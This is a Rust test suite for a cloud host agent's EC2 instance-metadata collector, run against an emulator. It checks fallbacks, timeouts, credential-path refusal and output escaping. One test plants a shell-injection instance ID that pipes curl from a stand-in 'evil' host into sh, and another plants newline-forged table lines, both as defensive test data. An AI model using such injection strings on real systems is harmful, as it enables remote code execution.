//! Facts, findings and fallbacks against the emulator.

use crate::{config_for, no_env, not_ec2_root, root_with};
use guestward_cloud::{
    AccessMode, CloudCollector, CloudState, HOP_LIMIT_ABOVE_ONE, IMDSV1_ENABLED, IMDSV2_UNAVAILABLE,
    INSTANCE_PROFILE_ATTACHED, ImdsConfig, Tags, findings,
};
use guestward_core::{SectionStatus, Severity};
use guestward_imds_emulator::{ACCOUNT_ID, Emulator, EmulatorConfig, INSTANCE_ID, PROFILE_ARN, TokenMode};
use std::time::{Duration, Instant};

#[tokio::test]
async fn full_report_from_an_imdsv2_only_instance() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let out = collector.collect(&root).await;
    assert!(out.problems.is_empty(), "{:?}", out.problems);
    let r = &out.report;
    assert_eq!(r.state, CloudState::Ec2);
    let i = r.instance.as_ref().unwrap();
    assert_eq!(i.instance_id.as_deref(), Some(INSTANCE_ID));
    assert_eq!(i.instance_type.as_deref(), Some("m7i.large"));
    assert_eq!(i.ami_id.as_deref(), Some("ami-0abcdef1234567890"));
    assert_eq!(i.region.as_deref(), Some("eu-west-1"));
    assert_eq!(i.availability_zone.as_deref(), Some("eu-west-1a"));
    assert_eq!(i.availability_zone_id.as_deref(), Some("euw1-az2"));
    assert_eq!(i.account_id.as_deref(), Some(ACCOUNT_ID));
    assert_eq!(i.architecture.as_deref(), Some("x86_64"));
    assert_eq!(i.private_ipv4.as_deref(), Some("10.0.1.23"));
    assert_eq!(i.public_ipv4.as_deref(), Some("203.0.113.10"));
    assert_eq!(i.ipv6, vec!["2001:db8:1234:1a00::23".to_string()]);
    assert_eq!(i.pending_time.as_deref(), Some("2026-11-29T08:00:00Z"));

    assert_eq!(r.interfaces.len(), 2);
    let eth0 = &r.interfaces[0];
    assert_eq!(eth0.device_number, Some(0));
    assert_eq!(eth0.interface_id.as_deref(), Some("eni-0a1b2c3d4e5f60001"));
    assert_eq!(eth0.security_group_ids, vec!["sg-0aaa1111bbbb2222c", "sg-0ddd3333eeee4444f"]);
    assert_eq!(eth0.subnet_id.as_deref(), Some("subnet-0123456789abcdef0"));
    assert_eq!(eth0.vpc_id.as_deref(), Some("vpc-0123456789abcdef0"));
    assert_eq!(r.interfaces[1].public_ipv4s, Vec::<String>::new());

    let iam = r.iam.as_ref().unwrap();
    assert_eq!(iam.instance_profile_arn, PROFILE_ARN);
    assert_eq!(iam.instance_profile_name, "web-server");

    match r.tags.as_ref().unwrap() {
        Tags::Enabled { values } => {
            assert_eq!(values.get("Name").map(String::as_str), Some("web-1"));
            // A key with a space travels percent-encoded.
            assert_eq!(values.get("cost center").map(String::as_str), Some("42"));
        }
        other => panic!("tags: {other:?}"),
    }
    let imds = r.imds.as_ref().unwrap();
    assert_eq!(imds.access_mode, Some(AccessMode::V2));
    assert_eq!(imds.imdsv1_answers, Some(false), "tokens required: the token-less probe gets 401");
    assert_eq!(imds.token_ttl_secs, Some(21_600));

    // The agent must never have asked for credentials, even though the emulator has some.
    let records = emu.records();
    assert!(records.iter().all(|r| !r.path.contains("security-credentials")), "{records:?}");

    let ids: Vec<_> = findings(r).into_iter().map(|f| f.id).collect();
    assert_eq!(
        ids,
        vec![INSTANCE_PROFILE_ATTACHED.to_string()],
        "v2-required instance: only the profile review"
    );
}

#[tokio::test]
async fn identity_document_and_signatures_are_kept_and_verify() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let out = collector.collect(&root).await;
    let id = out.report.identity.unwrap();
    assert_eq!(id.document, emu.identity_document(), "kept byte for byte: the signature covers these bytes");
    let key = emu.signing_public_key_der();
    guestward_cloud::verify_signature(&id.document, id.signature.as_deref().unwrap(), key).unwrap();
    let rsa2048 = id.rsa2048.unwrap();
    let signed = guestward_cloud::verify_rsa2048(&rsa2048, key).unwrap();
    assert_eq!(signed, id.document, "the PKCS#7 embeds exactly the served document");
    // Tampering is caught: a document that is not the signed one, or another key.
    let err = guestward_cloud::verify_signature(
        &id.document.replace("m7i", "m8i"),
        id.signature.as_deref().unwrap(),
        key,
    )
    .unwrap_err();
    assert!(matches!(err, guestward_cloud::VerifyError::BadSignature), "{err}");
    let other = Emulator::start(EmulatorConfig::default()).await;
    let err = guestward_cloud::verify_rsa2048(&rsa2048, other.signing_public_key_der()).unwrap_err();
    assert!(matches!(err, guestward_cloud::VerifyError::BadSignature), "{err}");
}

#[tokio::test]
async fn imdsv1_answering_raises_a_high_finding_with_the_fix() {
    let emu = Emulator::start(EmulatorConfig { tokens: TokenMode::Optional, ..Default::default() }).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let out = collector.collect(&root).await;
    let imds = out.report.imds.as_ref().unwrap();
    assert_eq!(imds.access_mode, Some(AccessMode::V2));
    assert_eq!(imds.imdsv1_answers, Some(true));
    let f = findings(&out.report).into_iter().find(|f| f.id == IMDSV1_ENABLED).unwrap();
    assert_eq!(f.severity, Severity::High);
    assert!(
        f.remediation.contains("aws ec2 modify-instance-metadata-options --instance-id i-0123456789abcdef0 --http-tokens required"),
        "{}",
        f.remediation
    );
    assert_eq!(f.source, "cloud");
}

#[tokio::test]
async fn probe_can_be_turned_off() {
    let emu = Emulator::start(EmulatorConfig { tokens: TokenMode::Optional, ..Default::default() }).await;
    let config = ImdsConfig { probe_imdsv1: false, ..config_for(&emu) };
    let out = CloudCollector::with_env(&config, &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert_eq!(out.report.imds.unwrap().imdsv1_answers, None);
    assert!(
        emu.records().iter().all(|r| r.token != guestward_imds_emulator::TokenUse::None || r.method == "PUT")
    );
}

#[tokio::test]
async fn token_put_refused_falls_back_to_imdsv1_when_allowed() {
    for status in [403, 404, 405] {
        let emu = Emulator::start(EmulatorConfig {
            tokens: TokenMode::Optional,
            token_put_status: Some(status),
            ..Default::default()
        })
        .await;
        let out =
            CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
        assert_eq!(out.report.state, CloudState::Ec2, "status {status}");
        assert_eq!(out.report.instance_id(), Some(INSTANCE_ID));
        let imds = out.report.imds.as_ref().unwrap();
        assert_eq!(imds.access_mode, Some(AccessMode::V1Fallback));
        assert_eq!(imds.token_refused_status, Some(status));
        let ids: Vec<_> = findings(&out.report).into_iter().map(|f| f.id).collect();
        assert!(
            ids.contains(&IMDSV1_ENABLED.to_string()) && ids.contains(&IMDSV2_UNAVAILABLE.to_string()),
            "{ids:?}"
        );
        assert_eq!(emu.token_puts(), 0);
    }
}

#[tokio::test]
async fn token_put_refused_with_fallback_forbidden_sends_no_tokenless_request() {
    let emu = Emulator::start(EmulatorConfig {
        tokens: TokenMode::Optional,
        token_put_status: Some(405),
        ..Default::default()
    })
    .await;
    let config = ImdsConfig { allow_imdsv1_fallback: false, ..config_for(&emu) };
    let out = CloudCollector::with_env(&config, &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert_eq!(out.report.state, CloudState::ImdsDisabled);
    assert!(out.report.reason.as_deref().unwrap().contains("allow_imdsv1_fallback"));
    assert!(emu.records().iter().all(|r| r.method == "PUT"), "{:?}", emu.records());
}

#[tokio::test]
async fn forbidden_everywhere_means_imds_is_turned_off_not_an_error() {
    let emu = Emulator::start(EmulatorConfig { enabled: false, ..Default::default() }).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let out = collector.collect(&root).await;
    assert_eq!(out.report.state, CloudState::ImdsDisabled, "{:?}", out.report);
    assert!(out.problems.is_empty(), "a turned-off IMDS is the owner's choice: {:?}", out.problems);
    assert!(findings(&out.report).is_empty());
    // The PUT got 403 (fallback allowed), then the token-less GET got 403 too.
    let statuses: Vec<_> = emu.records().iter().map(|r| (r.method.clone(), r.status)).collect();
    assert_eq!(statuses, vec![("PUT".to_string(), 403), ("GET".to_string(), 403)]);
}

#[tokio::test]
async fn tags_off_is_reported_as_not_enabled_without_problems() {
    let emu = Emulator::start(EmulatorConfig { tags: None, ..Default::default() }).await;
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert!(out.problems.is_empty(), "{:?}", out.problems);
    assert_eq!(out.report.tags, Some(Tags::NotEnabled));
    let config = ImdsConfig { collect_tags: false, ..config_for(&emu) };
    let out = CloudCollector::with_env(&config, &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert_eq!(out.report.tags, Some(Tags::NotCollected));
}

#[tokio::test]
async fn a_hanging_item_costs_its_timeout_and_hides_nothing_else() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.hang.insert("/latest/meta-data/instance-type".into());
    });
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let started = Instant::now();
    let out = collector.collect(&not_ec2_root().1).await;
    let took = started.elapsed();
    // Default read timeout 1 s, one retry after 100 ms: about 2.1 s for the hung item.
    assert!(took < Duration::from_secs(4), "took {took:?}");
    assert!(took >= Duration::from_secs(2), "gave up before its timeout and retry: {took:?}");
    let p =
        out.problems.iter().find(|p| p.path.as_deref() == Some("/latest/meta-data/instance-type")).unwrap();
    assert_eq!(p.code, "imds_unreachable");
    let i = out.report.instance.unwrap();
    assert_eq!(i.instance_type.as_deref(), Some("m7i.large"), "filled from the identity document");
    assert_eq!(i.ami_id.as_deref(), Some("ami-0abcdef1234567890"));
    assert_eq!(out.report.interfaces.len(), 2);
}

#[tokio::test]
async fn a_hanging_service_is_given_up_on_within_the_timeouts() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.hang.insert("/latest/api/token".into());
    });
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let started = Instant::now();
    let out = collector.collect(&root).await;
    let took = started.elapsed();
    assert!(took < Duration::from_millis(3_500), "took {took:?}");
    assert_eq!(out.report.state, CloudState::Unreachable);
    assert_eq!(out.problems[0].code, "imds_unreachable");
    // Then it stops asking until the re-probe interval has passed.
    let before = emu.records().len();
    let again = collector.collect(&root).await;
    assert_eq!(again.report.state, CloudState::Unreachable);
    assert!(again.report.reason.unwrap().contains("next try within"));
    assert_eq!(emu.records().len(), before, "no request before the re-probe interval");
}

#[tokio::test]
async fn oversized_body_is_cut_off_and_reported() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.oversized.insert("/latest/meta-data/ami-id".into(), 10 * 1024 * 1024);
    });
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    let p = out.problems.iter().find(|p| p.code == "too_large").unwrap();
    assert_eq!(p.path.as_deref(), Some("/latest/meta-data/ami-id"));
    assert!(p.message.contains("65536"), "{}", p.message);
    let i = out.report.instance.unwrap();
    assert_eq!(
        i.ami_id.as_deref(),
        Some("ami-0abcdef1234567890"),
        "taken from the identity document instead"
    );
    assert_eq!(i.instance_type.as_deref(), Some("m7i.large"));
}

#[tokio::test]
async fn throttling_is_retried_once_then_reported() {
    let emu = Emulator::start(EmulatorConfig { throttle_next: 1, ..Default::default() }).await;
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert!(out.problems.is_empty(), "one 429 is absorbed by the retry: {:?}", out.problems);
    assert_eq!(emu.records()[0].status, 429);

    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let client = collector.client().unwrap();
    client.get("/latest/meta-data/instance-id").await.unwrap();
    emu.update(|c| c.throttle_next = 2);
    let err = client.get("/latest/meta-data/ami-id").await.unwrap_err();
    assert_eq!(err.code(), "imds_throttled", "{err}");
}

#[tokio::test]
async fn credential_paths_are_refused_before_any_request() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let client = collector.client().unwrap();
    let err = client.get("/latest/meta-data/iam/security-credentials/web-server-role").await.unwrap_err();
    assert_eq!(err.code(), "forbidden_path");
    assert!(emu.records().is_empty());
}

#[tokio::test]
async fn hop_limit_above_one_without_containers_is_informational() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let config = ImdsConfig { http_put_response_hop_limit: Some(2), ..config_for(&emu) };
    let (_d, root) = not_ec2_root();
    let out = CloudCollector::with_env(&config, &no_env).unwrap().collect(&root).await;
    let f = findings(&out.report).into_iter().find(|f| f.id == HOP_LIMIT_ABOVE_ONE).unwrap();
    assert_eq!(f.severity, Severity::Info);
    assert!(f.remediation.contains("--http-put-response-hop-limit 1"));
    // With a container runtime present the same hop limit is legitimate.
    let (_d2, with_docker) = root_with(&[("/run/containerd/containerd.sock", "")]);
    let out = CloudCollector::with_env(&config, &no_env).unwrap().collect(&with_docker).await;
    assert!(out.report.imds.as_ref().unwrap().container_runtime_present);
    assert!(findings(&out.report).iter().all(|f| f.id != HOP_LIMIT_ABOVE_ONE));
}

#[tokio::test]
async fn scan_is_skipped_under_a_mounted_root_and_ok_live() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let s = collector.scan(&root).await;
    assert_eq!(s.section.status, SectionStatus::Skipped);
    assert!(s.section.note.unwrap().contains("--root"));
    assert!(s.findings.is_empty() && s.instance_id.is_none());
    assert!(emu.records().is_empty());
    let live = collector.scan(&guestward_core::HostRoot::live()).await;
    assert_eq!(live.section.status, SectionStatus::Ok, "{:?}", live.section.problems);
    assert_eq!(live.instance_id.as_deref(), Some(INSTANCE_ID));
    assert!(live.findings.iter().any(|f| f.id == INSTANCE_PROFILE_ATTACHED), "{:?}", live.findings);
    assert_eq!(collector.known_instance_id(&root).as_deref(), Some(INSTANCE_ID));
}

#[tokio::test]
async fn ipv6_loopback_endpoint_works() {
    let Ok(probe) = std::net::TcpListener::bind("[::1]:0") else {
        guestward_core::testing::skip_or_fail(
            "ipv6_loopback_endpoint_works",
            "no IPv6 loopback on this machine",
        );
        return;
    };
    drop(probe);
    let emu = Emulator::start_on("[::1]:0".parse().unwrap(), EmulatorConfig::default()).await;
    assert!(emu.url().starts_with("http://[::1]:"));
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    assert_eq!(out.report.instance_id(), Some(INSTANCE_ID));
}

#[tokio::test]
async fn table_shows_the_facts() {
    let emu = Emulator::start(EmulatorConfig { tokens: TokenMode::Optional, ..Default::default() }).await;
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    let mut buf = Vec::new();
    guestward_cloud::render_table(&out.report, &mut buf).unwrap();
    let text = String::from_utf8(buf).unwrap();
    for needle in [
        INSTANCE_ID,
        "eu-west-1a (euw1-az2)",
        "yes (IMDSv1 enabled)",
        "eni-0a1b2c3d4e5f60001",
        "cost center = 42",
    ] {
        assert!(text.contains(needle), "missing {needle:?} in\n{text}");
    }
}

#[tokio::test]
async fn proxy_variables_are_ignored_for_imds() {
    // The example binary is built by `cargo test`; it lives next to this test's deps dir.
    let exe = std::env::current_exe().unwrap();
    let bin = exe.parent().and_then(|d| d.parent()).map(|d| d.join("examples/imds_collect"));
    let Some(bin) = bin.filter(|b| b.exists()) else {
        guestward_core::testing::skip_or_fail(
            "proxy_variables_are_ignored_for_imds",
            &format!("examples/imds_collect not built next to {exe:?}"),
        );
        return;
    };
    let emu = Emulator::start(EmulatorConfig::default()).await;
    // A proxy that refuses every connection: if the client used it, the collection would fail.
    let dead = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("http://{}", l.local_addr().unwrap())
    };
    let out = tokio::process::Command::new(bin)
        .arg("--json")
        .env("AWS_EC2_METADATA_SERVICE_ENDPOINT", emu.url())
        .env_remove("AWS_EC2_METADATA_DISABLED")
        .env("HTTP_PROXY", &dead)
        .env("http_proxy", &dead)
        .env("ALL_PROXY", &dead)
        .env("NO_PROXY", "")
        .output()
        .await
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let section: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(section["status"], "ok", "{section}");
    assert_eq!(section["data"]["instance"]["instance_id"], INSTANCE_ID);
}

#[tokio::test]
async fn blocking_scan_from_a_blocking_task_does_not_panic() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    // As the daemon does: a scan thread of the blocking pool lends the runtime's handle.
    // Blocking-pool threads carry the runtime's context, where a nested `block_on` may panic;
    // the scan notices and blocks a plain thread instead. This current-thread runtime stays
    // driven because the test's own `block_on` awaits the task.
    let runtime = tokio::runtime::Handle::current();
    let scan = tokio::time::timeout(
        Duration::from_secs(30),
        tokio::task::spawn_blocking(move || {
            collector.scan_blocking(&runtime, &guestward_core::HostRoot::live())
        }),
    )
    .await
    .expect("the blocking scan hung")
    .unwrap();
    assert_eq!(scan.instance_id.as_deref(), Some(INSTANCE_ID));
}

/// Runs a collection, failing the test (instead of hanging it) after `limit`.
async fn collect_bounded(
    collector: &CloudCollector,
    root: &guestward_core::HostRoot,
    limit: Duration,
) -> (guestward_cloud::CloudOutcome, Duration) {
    let started = Instant::now();
    let out = tokio::time::timeout(limit, collector.collect(root))
        .await
        .unwrap_or_else(|_| panic!("the collection did not finish within {limit:?}"));
    (out, started.elapsed())
}

#[tokio::test]
async fn slow_metadata_service_is_cut_off_at_the_collection_deadline_with_partial_results() {
    // Each answer takes 300 ms, inside every per-request timeout: without an overall deadline
    // the ~40 items of a collection take 12 s or more (0.9 s each: minutes).
    let emu = Emulator::start(EmulatorConfig {
        delay_every_answer: Some(Duration::from_millis(300)),
        ..Default::default()
    })
    .await;
    let config = ImdsConfig { collection_deadline_ms: 1_500, ..config_for(&emu) };
    let collector = CloudCollector::with_env(&config, &no_env).unwrap();
    let (_d, root) = not_ec2_root();
    let (out, took) = collect_bounded(&collector, &root, Duration::from_secs(10)).await;
    assert!(took < Duration::from_millis(2_500), "the deadline was not kept: {took:?}");
    // What was read before the deadline is kept: the token and the instance id came first.
    assert_eq!(out.report.state, CloudState::Ec2, "{:?}", out.report);
    assert_eq!(out.report.instance_id(), Some(INSTANCE_ID));
    let p = out.problems.iter().find(|p| p.code == "imds_deadline").unwrap();
    assert!(p.message.contains("imds.collection_deadline_ms") && p.message.contains("1500 ms"), "{p}");
    assert!(p.path.as_deref().is_some_and(|path| path.starts_with("/latest/")), "{p:?}");
    assert_eq!(out.problems.iter().filter(|p| p.code == "imds_deadline").count(), 1, "{:?}", out.problems);
    // Nothing more was asked after the deadline (at most the request in flight when it hit).
    let asked = emu.records().len();
    tokio::time::sleep(Duration::from_millis(700)).await;
    assert!(emu.records().len() <= asked + 1, "requests kept coming after the deadline");
}

#[tokio::test]
async fn metadata_service_slower_than_the_deadline_on_the_first_item_is_unreachable_with_a_problem() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.delays.insert("/latest/meta-data/instance-id".into(), Duration::from_millis(900));
    });
    let config = ImdsConfig { collection_deadline_ms: 500, ..config_for(&emu) };
    let collector = CloudCollector::with_env(&config, &no_env).unwrap();
    let (out, took) = collect_bounded(&collector, &not_ec2_root().1, Duration::from_secs(10)).await;
    assert!(took < Duration::from_millis(1_500), "took {took:?}");
    assert_eq!(out.report.state, CloudState::Unreachable);
    assert!(
        out.report.reason.as_deref().unwrap().contains("imds.collection_deadline_ms"),
        "{:?}",
        out.report
    );
    assert_eq!(out.problems[0].code, "imds_deadline", "{:?}", out.problems);
    assert_eq!(out.problems[0].path.as_deref(), Some("/latest/meta-data/instance-id"));
}

#[tokio::test]
async fn http_500_is_reported_as_a_server_error_not_as_no_answer() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.status_for.insert("/latest/meta-data/instance-type".into(), 500);
    });
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (out, _) = collect_bounded(&collector, &not_ec2_root().1, Duration::from_secs(10)).await;
    let p = out
        .problems
        .iter()
        .find(|p| p.path.as_deref() == Some("/latest/meta-data/instance-type"))
        .unwrap_or_else(|| panic!("no problem for instance-type: {:?}", out.problems));
    assert_eq!(p.code, "imds_server_error", "{p:?}");
    assert!(p.message.contains("HTTP 500 from /latest/meta-data/instance-type"), "{}", p.message);
    assert!(!p.message.contains("no answer"), "{}", p.message);
    // Retried once (the SDKs' rule for 5xx), then the rest of the collection went on.
    let asked = emu.records().iter().filter(|r| r.path == "/latest/meta-data/instance-type").count();
    assert_eq!(asked, 2);
    assert!(out.problems.iter().all(|p| p.code != "imds_stopped_answering"), "{:?}", out.problems);
    assert_eq!(out.report.instance.unwrap().ami_id.as_deref(), Some("ami-0abcdef1234567890"));

    // On the first item, the section says the service failed, with the status.
    let emu = Emulator::start(EmulatorConfig::default()).await;
    emu.update(|c| {
        c.status_for.insert("/latest/meta-data/instance-id".into(), 503);
    });
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let (out, _) = collect_bounded(&collector, &not_ec2_root().1, Duration::from_secs(10)).await;
    assert_eq!(out.report.state, CloudState::Unreachable);
    let reason = out.report.reason.unwrap();
    assert!(reason.contains("HTTP 503 from /latest/meta-data/instance-id"), "{reason}");
    assert_eq!(out.problems[0].code, "imds_server_error");
}

/// One IMDS hiccup once turned the host id into machine-id for an hour (the failure was
/// cached for `reprobe_interval_secs`), and the collector refused those reports as another
/// host's. A host seen as EC2 keeps its instance id through the hiccup and is asked again at
/// the next scan.
#[tokio::test]
async fn a_timeout_after_a_success_keeps_the_instance_id_and_is_not_cached() {
    let emu = Emulator::start(EmulatorConfig::default()).await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let live = guestward_core::HostRoot::live();
    assert_eq!(collector.scan(&live).await.instance_id.as_deref(), Some(INSTANCE_ID));
    emu.update(|c| {
        c.hang.insert("/latest/meta-data/instance-id".into());
    });
    let hiccup = collector.scan(&live).await;
    let report = hiccup.section.data.as_ref().unwrap();
    assert_eq!(report.state, CloudState::Unreachable, "{report:?}");
    assert_eq!(hiccup.instance_id.as_deref(), Some(INSTANCE_ID));
    emu.update(|c| c.hang.clear());
    let after = collector.scan(&live).await;
    assert_eq!(after.section.data.as_ref().unwrap().state, CloudState::Ec2, "asked again at once");
    assert_eq!(after.instance_id.as_deref(), Some(INSTANCE_ID));
}

/// The instance id IMDS gives is data from the network: one that is not an instance id's shape
/// is a problem, never the host's identity, never part of a command printed for an operator.
#[tokio::test]
async fn an_instance_id_of_the_wrong_shape_is_neither_the_identity_nor_in_a_fix_command() {
    let evil = "i-0123'; curl http://evil/x|sh; echo '";
    let emu = Emulator::start(EmulatorConfig {
        tokens: TokenMode::Optional,
        instance_id: evil.to_string(),
        ..Default::default()
    })
    .await;
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let scan = collector.scan(&guestward_core::HostRoot::live()).await;
    assert_eq!(scan.instance_id, None);
    assert!(scan.section.problems.iter().any(|p| p.code == "malformed"), "{:?}", scan.section.problems);
    let v1 = scan.findings.iter().find(|f| f.id == IMDSV1_ENABLED).unwrap();
    let text = serde_json::to_string(v1).unwrap();
    assert!(!text.contains("curl") && text.contains("<instance-id>"), "{text}");
    assert_eq!(collector.known_instance_id(&not_ec2_root().1), None);
}

/// A newline in a metadata value once forged lines of the human table.
#[tokio::test]
async fn metadata_values_cannot_add_lines_to_the_table() {
    let emu = Emulator::start(EmulatorConfig {
        spot_instance_action: Some(
            r#"{"action":"terminate","time":"2026-12-06T22:00:00Z\n  FAKE: all good"}"#.to_string(),
        ),
        instance_profile_arn: Some("arn:aws:iam::123456789012:instance-profile/x\n\rFAKE2".to_string()),
        ..Default::default()
    })
    .await;
    let out = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap().collect(&not_ec2_root().1).await;
    let mut buf = Vec::new();
    guestward_cloud::render_table(&out.report, &mut buf).unwrap();
    let text = String::from_utf8(buf).unwrap();
    assert!(!text.lines().any(|l| l.starts_with("  FAKE") || l.starts_with("FAKE2")), "{text}");
    assert!(
        text.contains("FAKE: all good") || text.contains("FAKE2"),
        "the values are shown, escaped:\n{text}"
    );
}

/// A web server answering 404 to everything (a mistyped endpoint) is no instance metadata
/// service: it was once reported as EC2, its 404 to the token request read as "IMDSv2
/// unavailable", with a high IMDSv1 finding whose evidence said 200.
#[tokio::test]
async fn a_server_without_an_instance_id_is_not_taken_for_imds() {
    let emu = Emulator::start(EmulatorConfig { token_put_status: Some(404), ..Default::default() }).await;
    emu.update(|c| {
        c.status_for.insert("/latest/meta-data/instance-id".into(), 404);
    });
    let collector = CloudCollector::with_env(&config_for(&emu), &no_env).unwrap();
    let scan = collector.scan(&guestward_core::HostRoot::live()).await;
    let report = scan.section.data.as_ref().unwrap();
    assert_eq!(report.state, CloudState::Unreachable, "{report:?}");
    assert!(report.reason.as_deref().unwrap().contains("not an EC2 instance metadata service"), "{report:?}");
    assert!(scan.section.problems.iter().any(|p| p.code == "not_imds"), "{:?}", scan.section.problems);
    assert!(scan.findings.is_empty(), "{:?}", scan.findings);
    assert_eq!(scan.instance_id, None);
}
